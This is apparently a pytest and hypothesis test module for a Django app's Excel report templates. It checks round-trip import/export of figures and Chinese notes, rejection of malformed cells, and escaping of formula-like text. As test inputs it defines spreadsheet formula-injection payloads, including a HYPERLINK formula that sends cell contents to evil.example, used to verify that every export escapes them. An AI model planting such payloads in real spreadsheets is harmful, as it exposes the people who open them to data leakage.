"""Export → import gives back the same data, and exports never carry a formula.

The round trip (hypothesis): figures and notes are saved for 连州's 2024 reports — long
decimals within numeric(18, 4), percentages, whole counts; notes in Chinese, beginning with
= + - @ or an apostrophe — the template is exported, the reports are rolled back, and the
exported file is imported and committed: every figure and note must come back exactly. Bad
cells (hypothesis-generated) are row errors, and nothing is written.

pytest-django's ``db`` fixture is one transaction for the whole test, and hypothesis runs every
example inside it, so each example works in a savepoint that it rolls back.
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal

import openpyxl
import pytest
from django.db import transaction
from django.db.models import Q
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.models import Region
from planning import services as planning_services
from planning.models import Plan, Task
from reports.excel import importers
from reports.excel.exporters import escape_text, unescape_text
from reports.excel.templates import figures_template, owed_rows
from stations.models import Station
from targets import services
from targets.models import ProgressReport, Target
from tests.reports.test_excel_import import snapshot

pytestmark = pytest.mark.django_db

EXAMPLES = settings(
    max_examples=25,
    deadline=None,
    database=None,  # keep no example database in the repository
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
LIANZHOU = "lianzhou-2021-2025"
# 连州's own 2024 targets of three kinds: an amount without a unit (any decimal that fits
# numeric(18, 4)), a percentage, a count of hydrants (whole numbers).
AMOUNT, PERCENT, COUNT = "t-vehicle-amount", "t-hydrant-intact", "t-hydrants"
DANGEROUS_STARTS = ["=", "+", "-", "@", "'", "'=", '=HYPERLINK("http://x","点击")', "@SUM(A1)"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "uploads"


@contextmanager
def rolled_back() -> Iterator[None]:
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def lianzhou() -> tuple[Plan, Region]:
    return Plan.objects.get(code=LIANZHOU), Region.objects.get(name="连州市")


def export_template(user) -> bytes:
    plan, region = lianzhou()
    workbook = figures_template(
        owed_rows(user, plan, region, "2024"), plan=plan, region=region, period="2024", user=user
    )
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


notes = st.builds(
    lambda start, rest: (start + rest).strip(),
    st.sampled_from(["", *DANGEROUS_STARTS]),
    st.text(
        alphabet=st.characters(categories=("L", "N", "P", "S", "Zs"), exclude_characters="\x85")
        | st.sampled_from("消防站栓，。、\n"),
        max_size=40,
    ),
)
figures = st.fixed_dictionaries(
    {
        AMOUNT: st.decimals(min_value=0, max_value=Decimal("99999999999999.9999"), places=4),
        PERCENT: st.decimals(min_value=0, max_value=100, places=4),
        COUNT: st.integers(min_value=0, max_value=10**9).map(Decimal),
    }
)


@EXAMPLES
@given(values=figures, texts=st.lists(notes, min_size=3, max_size=3))
@example(  # the longest figures: 18 significant digits do not survive a double
    values={
        AMOUNT: Decimal("99999999999999.9999"),
        PERCENT: Decimal("99.9999"),
        COUNT: Decimal(10**9),
    },
    texts=["=1+1", "'=SUM(A1)", "@消防"],
)
@example(
    values={AMOUNT: Decimal("12345678901234.5678"), PERCENT: Decimal("0.0001"), COUNT: Decimal(0)},
    texts=["-5 座", "+86", "''"],
)
def test_export_then_import_gives_back_the_same_figures_and_notes(
    values, texts, open_2024, liaison_lianzhou
):
    plan, region = lianzhou()
    targets = {t.code: t for t in Target.objects.filter(plan=plan, code__in=values)}
    with rolled_back():
        with rolled_back():
            for (code, value), note in zip(values.items(), texts, strict=True):
                services.save_report(
                    actor=liaison_lianzhou, target=targets[code], region=region, period="2024",
                    value=value, note=note, confirm_note="核实无误", submit=False,
                )  # fmt: skip
            data = export_template(liaison_lianzhou)
        assert not ProgressReport.objects.filter(region=region, period="2024").exists()

        preview = importers.preview_upload(
            data, "模板.xlsx", actor=liaison_lianzhou, plan=plan, region=region,
            period="2024", mode=importers.DRAFT,
        )  # fmt: skip
        assert preview.errors == []
        batch = importers.create_batch(preview, data, "模板.xlsx", actor=liaison_lianzhou)
        result = importers.commit_batch(batch.pk, actor=liaison_lianzhou)

        assert len(result.written) == 3
        saved = {
            r.target.code: (r.value, r.note, r.confirm_note)
            for r in ProgressReport.objects.filter(region=region, period="2024").select_related(
                "target"
            )
        }
        expected = {
            code: (value, note, "核实无误")
            for (code, value), note in zip(values.items(), texts, strict=True)
        }
        assert saved == expected


bad_cells = st.one_of(
    st.from_regex(r"\A[1-9]\d{0,2},\d{1,2}\Z"),  # a decimal comma
    st.sampled_from(["NaN", "nan", "inf", "-inf", "Infinity", "1e5", "0x1F", "1_000"]),
    st.integers(min_value=10**14, max_value=10**40).map(str),  # past 14 integer digits
    st.integers(min_value=10**14, max_value=10**40),
    st.decimals(min_value=0, max_value=1000, places=6)
    .filter(lambda d: d.normalize().as_tuple().exponent < -4)
    .map(str),  # more than 4 decimals
    st.integers(max_value=-1),
    st.text(st.characters(categories=("L", "N", "P", "S")), min_size=1, max_size=20).map(
        lambda s: "=" + s
    ),  # a formula
    st.text(alphabet="消防站很多个未知", min_size=1, max_size=6),
)


@pytest.fixture
def lianzhou_template(open_2024, liaison_lianzhou) -> tuple[bytes, int]:
    """The 2024 template and the row of the amount target."""
    data = export_template(liaison_lianzhou)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["填报表"]
    amount = Target.objects.get(plan__code=LIANZHOU, code=AMOUNT).pk
    keys = {r: str(sheet[f"L{r}"].value) for r in range(4, sheet.max_row + 1)}
    return data, next(r for r, key in keys.items() if key.startswith(f"{amount}-"))


@EXAMPLES
@given(bad=bad_cells)
def test_a_malformed_cell_is_a_row_error_and_nothing_is_written(
    bad, lianzhou_template, liaison_lianzhou
):
    data, row = lianzhou_template
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    workbook["填报表"][f"H{row}"] = bad
    out = io.BytesIO()
    workbook.save(out)
    plan, region = lianzhou()
    before = snapshot()
    preview = importers.preview_upload(
        out.getvalue(), "模板.xlsx", actor=liaison_lianzhou, plan=plan, region=region,
        period="2024",
    )  # fmt: skip
    assert [(e.row, e.column) for e in preview.errors] == [(row, "本期填报值")]
    with pytest.raises(importers.ImportRefused):
        importers.create_batch(preview, out.getvalue(), "模板.xlsx", actor=liaison_lianzhou)
    assert snapshot() == before


# ------------------------------------------------------------------------------ escaping


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5 座", "'-5 座"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'引号", "''引号"),
        ("新建消防站", "新建消防站"),
        ("—", "—"),
        ("a\x00b\x0bc", "abc"),
        (12, 12),
        (None, None),
    ],
)
def test_text_a_spreadsheet_could_take_for_a_formula_is_escaped(text, cell):
    assert escape_text(text) == cell
    if isinstance(text, str) and "\x00" not in text:
        assert unescape_text(escape_text(text)) == text


@given(st.text())
def test_escaping_then_unescaping_gives_back_any_text_xml_can_carry(text):
    escaped = escape_text(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_text(escaped) == ILLEGAL_CHARACTERS_RE.sub("", text)


INJECTION = '=HYPERLINK("http://evil.example/"&A1,"点击")'


def cells(data: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(data: bytes) -> int:
    """No cell is a formula and no text starts like one; returns how many escaped cells."""
    escaped = 0
    for cell in cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
            escaped += cell.value.startswith("'=HYPERLINK") or cell.value.startswith("'@")
    return escaped


def test_every_export_escapes_text_that_starts_like_a_formula(
    client, open_2024, liaison_lianzhou, staff_lianzhou
):
    plan, region = lianzhou()
    Plan.objects.filter(pk=plan.pk).update(title=INJECTION)
    target = Target.objects.get(plan=plan, code=COUNT)
    Target.objects.filter(pk=target.pk).update(name="@SUM(1,2)")
    services.save_report(
        actor=liaison_lianzhou, target=target, region=region, period="2024", value=Decimal(3),
        note=INJECTION, confirm_note="核实", submit=True,
    )  # fmt: skip
    task = Task.objects.filter(plan=plan).order_by("pk").first()
    planning_services.post_task_update(task, actor=staff_lianzhou, text=INJECTION)
    in_lianzhou = Region.objects.filter(Q(pk=region.pk) | Q(parent=region))
    assert Station.objects.filter(region__in=in_lianzhou).update(name=INJECTION, address="+86")
    client.force_login(staff_lianzhou)
    xlsx = {"plan": plan.pk, "export": "xlsx"}
    exports = {
        "template": (
            "reports:excel_template",
            {"plan": plan.pk, "region": region.pk, "period": "2024"},
        ),
        "task ledger": ("reports:excel_task_ledger", {"plan": plan.pk}),
        "station register": ("reports:excel_station_register", {}),
        "report ledger": ("reports:excel_report_ledger", {}),
        "assessment": ("reports:excel_assessment", {**xlsx, "year": 2024}),
        "evaluation": ("reports:excel_evaluation", xlsx),
    }
    for name, (url, query) in exports.items():
        response = client.get(reverse(url), query)
        assert response.status_code == 200, (name, response.status_code)
        data = b"".join(response.streaming_content)
        assert assert_no_formula(data) >= 1, f"{name}: the injected text is not in the export"
